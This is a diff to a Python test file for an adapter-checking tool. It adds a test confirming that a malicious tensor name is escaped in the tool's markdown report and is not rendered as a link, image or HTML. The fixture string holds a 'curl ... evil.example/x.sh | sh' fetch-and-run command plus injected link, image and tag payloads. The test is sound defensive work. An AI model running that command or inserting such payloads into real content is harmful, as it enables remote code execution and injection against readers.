@@ -3,6 +3,7 @@ options on either side of the command name, and no torch/transformers import on 
 
 from __future__ import annotations
 
+import html
 import io
 import json
 import os
@@ -187,6 +188,30 @@ def test_diff_markdown(capsys: pytest.CaptureFixture[str], llama: Built, llama_t
     assert rc == 1
     assert "| removed | `lm_head.weight` | [64, 16] F32 | - |" in out.splitlines()
     assert out.rstrip().endswith("0 added, 1 removed, 0 reshaped, 0 retyped, 20 unchanged")
+
+
+def test_markdown_names_from_files_stay_text(capsys: pytest.CaptureFixture[str], tmp_path: Path, seed_dir: Path) -> None:
+    # A PR comment renders this markdown: an adapter key with backticks, a link, an image and HTML
+    # must come out as the key's text inside code, never as a link, an image or a tag (markdown-it
+    # is the CommonMark parser rich already brings; GitHub's renderer follows the same spec).
+    from markdown_it import MarkdownIt
+    from safetensors.torch import load_file, save_file
+
+    evil = "x`curl https://evil.example/x.sh | sh`[pwn](https://evil.example)![i](https://evil.example/i.png)<b>&amp;\\](y)"
+    adapter = tmp_path / "adapter"
+    shutil.copytree(seed_dir / "adapter", adapter)
+    tensors = load_file(adapter / "adapter_model.safetensors")
+    tensors[f"base_model.model.model.layers.0.{evil}.lora_A.weight"] = torch.zeros(4, 8)
+    save_file(tensors, adapter / "adapter_model.safetensors")
+    rc, out, _ = run(capsys, "check", seed_dir / "base", adapter, "--format", "markdown")
+    assert rc == 1 and "LI401" in out
+    page = MarkdownIt("commonmark").enable("table").render(out)
+    assert "<a " not in page and "<img" not in page and "<b>" not in page
+    codes = [html.unescape(c) for c in re.findall(r"<code>(.*?)</code>", page)]
+    assert any(evil in c for c in codes), codes  # the whole key, one code span, in the tensor column
+    # LI401's message names the key (twice) in plain text: its backticks pair into code, the rest as typed
+    text = html.unescape(re.sub(r"<[^>]+>", "", page)).replace("`", "")
+    assert text.count(evil.replace("`", "")) == 3
 
 
 def test_scan_and_diff_github(capsys: pytest.CaptureFixture[str], llama: Built, llama_grown: Built, llama_sharded: Built, tmp_path: Path) -> None:
